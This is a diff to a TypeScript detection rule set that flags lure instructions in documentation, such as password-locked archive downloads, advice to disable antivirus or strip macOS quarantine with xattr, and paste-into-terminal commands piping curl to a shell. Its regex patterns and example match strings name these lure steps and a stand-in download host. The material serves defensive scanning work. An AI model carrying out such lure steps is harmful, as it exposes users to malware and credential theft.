@@ -1,13 +1,22 @@
 import { isHiding } from '../data/hosts.ts'
+import { INSISTING, PASSWORD_WORDS, STARTING } from '../data/phrases.ts'
 import type { Rule } from '../rule.ts'
 import { targetsIn } from '../weighing/hosts.ts'
-import { says } from './judging.ts'
+import { isNegated, says } from './judging.ts'
 
-const ARCHIVE = 'https?:\\/\\/[^\\s)\\]|<>"]{1,300}\\.(?:zip|rar|7z|tar\\.gz|exe|msi|dmg|pkg|iso|scr)\\b'
-const PASSWORD = `\\b(?:pass\\s?(?:word|code|phrase|wd)?|pwd|unlock (?:code|key)|archive key|pw)\\b[\\s:=|*\`"'(>-]{0,16}(?:is\\s{1,4})?[\\s*\`"'|]{0,6}[\\w!@#$-]{2,40}`
-const INSISTS =
-  /\b(?:required?|requires|must|critical|prerequisites?|important|mandatory|before (?:using|starting|you|the)|will not (?:work|function)|won't work|does not work|without (?:this|it|the))\b/i
-const RUNS_IT = /\b(?:run|launch|execute|open|start|double-?click|install)\b/i
+const ENDINGS = '(?:zip|rar|7z|tar\\.gz|exe|msi|dmg|pkg|iso|scr)'
+/** The address of an archive or a program, or a link with its name. */
+const ARCHIVE = `(?:https?:\\/\\/[^\\s)\\]|<>"]{1,300}\\.${ENDINGS}\\b|\\[[^\\]\\n]{0,60}\\.${ENDINGS}\\b[^\\]\\n]{0,20}\\]\\(https?:\\/\\/[^\\s)]{3,300}\\))`
+const ARCHIVES = ['.zip', '.rar', '.7z', '.exe', '.msi', '.dmg', '.iso', '.pkg', '.scr', '.tar.gz']
+const SEPARATORS = '(?:[\\s:：=|*`"\'>(（「-]|<\\/?\\w{1,6}>){0,16}'
+const PASSWORD = `(?:\\b(?:pass\\s?(?:word|code|phrase|wd)?|pwd|(?:unlock|extraction|archive|access) (?:code|key)|pw)\\b|${PASSWORD_WORDS})${SEPARATORS}(?:is\\s{1,4}|为|是|は)?${SEPARATORS}[\\w!@#$-]{2,40}`
+const INSISTS = new RegExp(
+  `\\b(?:required?|requires|must|critical|prerequisites?|important|mandatory|before (?:using|starting|you|the|first|any)|will not (?:work|function)|won't work|does not work|without (?:this|it|the)|first)\\b|${INSISTING}`,
+  'iu',
+)
+const RUNS_IT = new RegExp(`\\b(?:run|launch|execute|open|start|double-?click|install)\\b|${STARTING}`, 'iu')
+const AS_PROGRAM =
+  /\.exe\b|\.app\b|\brun (?:the )?(?:executable|installer|it|program|tool|setup)|\bdouble-?click|\blaunch\b|\bxattr\s{1,4}-|运行|双击|実行|실행|ejecut|exécut|запуст|öffne|starte/iu
 
 export const FAKE_PREREQUISITES: readonly Rule[] = [
   {
@@ -20,15 +29,15 @@ export const FAKE_PREREQUISITES: readonly Rule[] = [
     fix: 'Name an official installer or a package of a registry. Nothing that a skill needs has to be locked.',
     patterns: [
       {
-        words: ['.zip', '.rar', '.7z', '.exe', '.msi', '.dmg', '.iso', '.pkg', '.scr', '.tar.gz'],
-        pattern: new RegExp(`${ARCHIVE}[\\s\\S]{0,300}?${PASSWORD}`, 'gi'),
+        words: ARCHIVES,
+        pattern: new RegExp(`${ARCHIVE}[\\s\\S]{0,300}?${PASSWORD}`, 'giu'),
         judge: (match, { folder }) => isLure(match[0], targetsIn(match[0], folder)),
       },
       {
-        words: ['.zip', '.rar', '.7z', '.exe', '.msi', '.dmg', '.iso', '.pkg', '.scr', '.tar.gz'],
+        words: ARCHIVES,
         pattern: new RegExp(
           `\\b(?:extract|unzip|unpack|archive|download)\\b[^\\n]{0,120}${PASSWORD}[\\s\\S]{0,300}?${ARCHIVE}`,
-          'gi',
+          'giu',
         ),
         judge: (match, { folder }) => isLure(match[0], targetsIn(match[0], folder)),
       },
@@ -115,10 +124,7 @@ export const FAKE_PREREQUISITES: readonly Rule[] = [
           if (!target || target.kind === 'own' || target.kind === 'placeholder' || target.kind === 'installer')
             return false
           if (!RUNS_IT.test(around) || !INSISTS.test(around)) return false
-          if (
-            !/\.exe\b|\brun (?:the )?(?:executable|installer|it|program|tool)|\bdouble-?click|\blaunch\b/i.test(around)
-          )
-            return false
+          if (!AS_PROGRAM.test(around)) return false
           if (isHiding(target.kind)) return says('critical', 'medium')
           return !target.isTied
         },
@@ -157,6 +163,60 @@ export const FAKE_PREREQUISITES: readonly Rule[] = [
     },
   },
   {
+    id: 'fake-prerequisites.protection-off',
+    version: 1,
+    severity: 'critical',
+    confidence: 'medium',
+    looksFor: 'A download for which people are to switch their protection off, or to ignore what it says.',
+    why: 'The warning is right more often than the page. Stealers ask for this, since they would be stopped.',
+    fix: 'Sign the program, and publish it where its users expect it.',
+    patterns: [
+      {
+        words: [
+          'antivirus',
+          'anti-virus',
+          'defender',
+          'smartscreen',
+          'gatekeeper',
+          'real-time protection',
+          'run anyway',
+          '杀毒',
+          'антивирус',
+        ],
+        pattern:
+          /\b(?:disable|turn off|switch off|pause|deactivate|stop|bypass|add an exclusion)\b[^\n]{0,60}\b(?:anti-?virus|defender|smart ?screen|gatekeeper|real-time protection)\b|\b(?:anti-?virus|defender|smart ?screen)\b[^\n]{0,80}\b(?:false positive|run anyway|ignore (?:it|this|the warning)|allow it)\b|(?:关闭|禁用|退出)[^\n。]{0,10}(?:杀毒|防护|安全软件)|отключите\s[^\n.]{0,20}антивирус/giu,
+        in: ['prose', 'comment', 'frontmatter'],
+        judge: (match, { view, start, folder }) => {
+          if (isNegated(view.text, start)) return false
+          const around = view.text.slice(Math.max(0, start - 500), start + match[0].length + 500)
+          const targets = targetsIn(around, folder)
+          return DOWNLOADS.test(around) && targets.some(({ kind }) => isHiding(kind) || kind === 'unknown')
+            ? true
+            : DOWNLOADS.test(around) && targets.some(({ kind }) => kind === 'api')
+              ? says('high', 'medium')
+              : false
+        },
+      },
+      {
+        words: ['xattr', 'quarantine', 'spctl'],
+        pattern:
+          /\b(?:curl|wget)\b[^\n]{0,300}https?:\/\/[^\n]{0,300}(?:\n[^\n]{0,200}){0,8}?\bxattr\s{1,4}-\w{0,3}[dc]\w{0,3}\s[^\n]{0,120}/g,
+        in: ['code', 'script'],
+        judge: (match, { folder }) =>
+          targetsIn(match[0], folder).some(({ kind, isTied }) => isHiding(kind) || (kind === 'unknown' && !isTied))
+            ? true
+            : says('medium', 'medium'),
+      },
+    ],
+    examples: {
+      match: [
+        'Get https://files.signer-tools.example/setup.exe. If Windows Defender complains, that is a false positive: turn off real-time protection first.',
+        '```bash\ncurl -LO https://files.signer-tools.example/a.zip && unzip a.zip\nxattr -cr A.app\n```',
+      ],
+      pass: ['Never disable your antivirus for a download.', 'Explains how Windows Defender and SmartScreen work.'],
+    },
+  },
+  {
     id: 'fake-prerequisites.paste-into-terminal',
     version: 1,
     severity: 'high',
@@ -168,7 +228,7 @@ export const FAKE_PREREQUISITES: readonly Rule[] = [
       {
         words: ['terminal', 'powershell', 'command prompt', 'win+r', 'windows + r'],
         pattern:
-          /\b(?:copy|run)\b[^\n]{0,40}\bcommand\b[^\n]{0,60}\b(?:terminal|powershell|command prompt|run dialog|win\s{0,2}\+\s{0,2}r)\b[^\n]{0,80}(?:\n[^\n]{0,300}){0,6}?(?:base64\s{1,4}-|\bcurl\s[^\n]{0,200}\|\s{0,4}(?:ba|z)?sh|-enc\w{0,20}\s|osascript\s{1,4}-e|mshta)/gi,
+          /\b(?:copy|run|paste|press|open)\b[^\n]{0,40}\b(?:command|terminal|powershell|win\s{0,2}\+\s{0,2}r)\b[^\n]{0,60}\b(?:terminal|powershell|command prompt|run dialog|win\s{0,2}\+\s{0,2}r|paste|enter)\b[^\n]{0,80}(?:\n[^\n]{0,300}){0,6}?(?:base64\s{1,4}-|\bcurl\s[^\n]{0,200}\|\s{0,4}(?:ba|z)?sh|-enc\w{0,20}\s|osascript\s{1,4}-e|mshta)/gi,
       },
     ],
     examples: {
@@ -188,3 +248,5 @@ function isLure(text: string, targets: ReturnType<typeof targetsIn>) {
     return false
   return true
 }
+
+const DOWNLOADS = /\b(?:download|install|setup|get)\b|下载|安装|скачай|скачайте/iu
